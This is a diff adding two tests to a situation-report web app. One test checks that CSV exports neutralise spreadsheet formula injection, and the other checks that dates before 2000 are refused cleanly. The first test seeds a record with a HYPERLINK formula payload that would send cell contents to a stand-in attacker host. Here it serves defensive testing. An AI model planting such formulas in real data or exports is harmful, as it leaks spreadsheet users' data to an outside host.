@@ -215,3 +215,25 @@ def test_the_api_refuses_out_of_scope_regions_and_bad_days(sw: SitrepWorld) -> N
     future = client.get("/api/v1/sitrep?day=2021-08-10")
     assert future.status_code == 422
     assert future.json()["detail"][0]["loc"] == ["query", "day"]
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv(sw: SitrepWorld) -> None:
+    from oxyflow.incidents.models import Incident
+
+    Incident.objects.filter(pk=sw.incident.pk).update(
+        title='=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    )
+    response = client_for(sw.rw.world.ministry).get(reverse("sitrep:csv") + f"?region=DZ&day={DAY}")
+    cells = [c for rows in csv_sections(response.content).values() for row in rows for c in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Open")' in cells
+    assert not any(c.startswith("=") for c in cells)
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "1999-12-31"])
+def test_a_day_before_2000_is_refused_not_a_server_error(sw: SitrepWorld, day: str) -> None:
+    client = client_for(sw.rw.world.ministry)
+    page = client.get(reverse("sitrep:report") + f"?region=DZ&day={day}")
+    assert page.status_code == 400
+    assert "2000-01-01" in page.content.decode()
+    assert client.get(f"/api/v1/sitrep?region=DZ&day={day}").status_code == 422
+    assert client.get(f"/api/v1/dashboard?region=DZ&day={day}").status_code == 422
